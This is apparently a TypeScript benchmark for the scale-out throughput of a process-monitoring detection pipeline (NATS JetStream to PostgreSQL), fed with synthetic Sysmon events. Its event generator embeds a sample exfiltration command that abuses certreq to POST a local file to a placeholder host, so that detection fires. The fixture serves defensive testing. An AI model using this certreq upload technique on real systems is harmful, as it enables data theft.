/**
 * Scale-out throughput on the real engines (PostgreSQL 127.0.0.1:5432, NATS JetStream 127.0.0.1:4222, or
 * PROCWATCH_BENCH_PG / PROCWATCH_BENCH_NATS):
 *   1. ingest → JetStream: `serve --nats --store postgres` answering 2xx after the publish is stored;
 *   2. JetStream → worker → PostgreSQL: one worker, then two (disjoint partitions), draining a backlog —
 *      decode, detection, correlation and the PG commit, acknowledged per batch.
 * Everything runs on this machine (2 shared cores): the workers, PostgreSQL and NATS compete for them, so the
 * figures are a floor for the design, not its ceiling. Uses a schema and a stream of its own, dropped after.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect } from 'nats';
import pg from 'pg';
import { REPO, fmt } from './lib.js';

const PG_URL = process.env.PROCWATCH_BENCH_PG ?? 'postgres://postgres@127.0.0.1:5432/test';
const NATS_URL = process.env.PROCWATCH_BENCH_NATS ?? 'nats://127.0.0.1:4222';
const TOTAL = Number(process.env.BENCH_SCALE_EVENTS ?? 40_000);
const BATCH = 1000;
const HOSTS = 32;
const TOKEN = 'bench-token-0123456789abcdef';
const SCHEMA = `pw_bench_${process.pid}`;
const STREAM = `PWBENCH_${process.pid}`;
const STORE = `${PG_URL}?schema=${SCHEMA}`;

function event(recordId: number, host: string, match: boolean): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
        EventID: 1,
        TimeCreated: { '#attributes': { SystemTime: new Date(Date.UTC(2024, 4, 1) + recordId).toISOString() } },
        EventRecordID: recordId,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: host,
      },
      EventData: {
        ProcessGuid: `84453EAB-30C2-5FC8-B4AA-${recordId.toString(16).padStart(12, '0')}`,
        ProcessId: 1000 + (recordId % 60000),
        Image: match ? 'C:\\Windows\\System32\\certreq.exe' : 'C:\\Program Files\\App\\worker.exe',
        OriginalFileName: match ? 'CertReq.exe' : 'worker.exe',
        CommandLine: match
          ? `certreq -Post -config https://exfil.example.invalid/u${recordId} C:\\Windows\\win.ini C:\\Users\\Public\\o.txt`
          : `"C:\\Program Files\\App\\worker.exe" --job ${recordId} --queue default`,
        User: 'CORP\\svc-app',
        Hashes: 'SHA256=9F2B4C6D8E0A1B3C5D7E9F1A2B4C6D8E0A1B3C5D7E9F1A2B4C6D8E0A1B3C5D7E',
        ParentProcessId: 700,
        ParentImage: 'C:\\Windows\\System32\\services.exe',
        ParentCommandLine: 'C:\\Windows\\system32\\services.exe',
      },
    },
  });
}

/** Batches of BATCH events, each spread over all hosts (1% alerting). */
function batches(first: number, total: number): string[] {
  const out: string[] = [];
  for (let b = 0; b < total / BATCH; b++) {
    const lines: string[] = [];
    for (let i = 0; i < BATCH; i++) {
      const r = first + b * BATCH + i;
      lines.push(event(r, `HOST${String(r % HOSTS).padStart(3, '0')}.corp.example`, r % 100 === 0));
    }
    out.push(lines.join('\n') + '\n');
  }
  return out;
}

function start(args: string[]): { child: ChildProcess; line: (re: RegExp) => Promise<RegExpMatchArray>; stderr: () => string } {
  const child = spawn(process.execPath, ['--import', 'tsx', join(REPO, 'bench', 'scale-child.ts'), ...args], { stdio: ['ignore', 'ignore', 'pipe'] });
  let err = '';
  child.stderr!.on('data', (b: Buffer) => (err += b.toString()));
  return {
    child,
    stderr: () => err,
    line: async (re) => {
      for (let i = 0; i < 1200; i++) {
        const m = re.exec(err);
        if (m) return m;
        if (child.exitCode !== null) break;
        await new Promise((r) => setTimeout(r, 50));
      }
      throw new Error(`no ${re} from ${args[0]}: ${err}`);
    },
  };
}

function cpuSeconds(pid: number | undefined): number {
  try {
    const f = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ');
    return (Number(f[11]) + Number(f[12])) / 100;
  } catch {
    return NaN;
  }
}

/** CPU seconds used so far by every process with this command name (PostgreSQL backends, nats-server). */
function cpuOf(comm: string): number {
  let total = 0;
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid)) continue;
    try {
      if (readFileSync(`/proc/${pid}/comm`, 'utf8').trim() !== comm) continue;
      total += cpuSeconds(Number(pid));
    } catch {
      // gone meanwhile
    }
  }
  return total;
}

async function main(): Promise<void> {
  const nc = await connect({ servers: NATS_URL }).catch((e: Error) => {
    throw new Error(`scale bench needs NATS JetStream at ${NATS_URL}: ${e.message}`);
  });
  const jsm = await nc.jetstreamManager();
  const db = new pg.Client({ connectionString: PG_URL });
  await db.connect();
  const data = mkdtempSync(join(tmpdir(), 'pw-scale-bench-'));
  const children: ChildProcess[] = [];
  try {
    const serve = start(['serve', '--port', '0', '--token', TOKEN, '--data', data, '--store', STORE, '--nats', NATS_URL, '--nats-stream', STREAM, '--partition-count', '8']);
    children.push(serve.child);
    const url = (await serve.line(/listening on (http:\/\/\S+)/))[1]!;
    const post = async (body: string): Promise<void> => {
      const res = await fetch(`${url}/ingest`, { method: 'POST', headers: { authorization: `Bearer ${TOKEN}` }, body });
      if (res.status !== 200) throw new Error(`ingest answered ${res.status}: ${await res.text()}`);
    };
    const send = async (list: string[]): Promise<number> => {
      let next = 0;
      const t0 = performance.now();
      await Promise.all(Array.from({ length: 8 }, async () => {
        while (next < list.length) await post(list[next++]!);
      }));
      return (performance.now() - t0) / 1000;
    };
    const events = async (): Promise<number> => Number((await db.query(`SELECT count(*) AS n FROM "${SCHEMA}".events`)).rows[0].n);
    const drain = async (expected: number, workers: ReturnType<typeof start>[]): Promise<{ s: number; cpu: number; pg: number; nats: number }> => {
      await Promise.all(workers.map((w) => w.line(/consuming partitions/)));
      const cpu0 = workers.reduce((n, w) => n + cpuSeconds(w.child.pid), 0);
      const pg0 = cpuOf('postgres');
      const nats0 = cpuOf('nats-server');
      const t0 = performance.now();
      while ((await jsm.streams.info(STREAM)).state.messages > 0 || (await events()) < expected) await new Promise((r) => setTimeout(r, 50));
      return {
        s: (performance.now() - t0) / 1000,
        cpu: workers.reduce((n, w) => n + cpuSeconds(w.child.pid), 0) - cpu0,
        pg: cpuOf('postgres') - pg0,
        nats: cpuOf('nats-server') - nats0,
      };
    };
    const perEvent = (r: { cpu: number; pg: number; nats: number }): string =>
      `CPU per event: worker ${((r.cpu / TOTAL) * 1e6).toFixed(0)} µs, PostgreSQL ${((r.pg / TOTAL) * 1e6).toFixed(0)} µs, NATS ${((r.nats / TOTAL) * 1e6).toFixed(0)} µs`;

    const first = batches(1, TOTAL);
    const ingestS = await send(first);
    console.log(`ingest → JetStream (2xx after the publish is stored; 8 connections, ${BATCH}-event batches, ${HOSTS} hosts, 8 partitions):`);
    console.log(`  ${fmt(TOTAL, 0)} events in ${ingestS.toFixed(2)} s = ${fmt(Math.round(TOTAL / ingestS), 0)} events/s`);

    const one = start(['worker', '--nats', NATS_URL, '--store', STORE, '--nats-stream', STREAM]);
    children.push(one.child);
    const r1 = await drain(TOTAL, [one]);
    console.log(`JetStream → 1 worker → PostgreSQL (backlog of ${fmt(TOTAL, 0)}, 1% alerting):`);
    console.log(`  ${r1.s.toFixed(2)} s = ${fmt(Math.round(TOTAL / r1.s), 0)} events/s; ${perEvent(r1)}`);
    one.child.kill('SIGTERM');
    await new Promise((r) => one.child.once('exit', r));

    await send(batches(1 + TOTAL, TOTAL));
    const two = [start(['worker', '--nats', NATS_URL, '--store', STORE, '--nats-stream', STREAM, '--partitions', '0-3']), start(['worker', '--nats', NATS_URL, '--store', STORE, '--nats-stream', STREAM, '--partitions', '4-7'])];
    children.push(...two.map((w) => w.child));
    const r2 = await drain(2 * TOTAL, two);
    console.log(`JetStream → 2 workers (partitions 0-3 / 4-7) → PostgreSQL (backlog of ${fmt(TOTAL, 0)}):`);
    console.log(`  ${r2.s.toFixed(2)} s = ${fmt(Math.round(TOTAL / r2.s), 0)} events/s; ${perEvent(r2)}`);
    console.log(`  (load average now ${(await import('node:os')).loadavg().map((l) => l.toFixed(1)).join(' ')}: shared 2-core host, figures vary run to run)`);
  } finally {
    for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
    await jsm.streams.delete(STREAM).catch(() => {});
    await nc.close();
    await db.query(`DROP SCHEMA IF EXISTS "${SCHEMA}" CASCADE`).catch(() => {});
    await db.end();
    rmSync(data, { recursive: true, force: true });
  }
}

main().catch((err: Error) => {
  console.error(`scale bench: ${err.message}`);
  process.exitCode = 1;
});
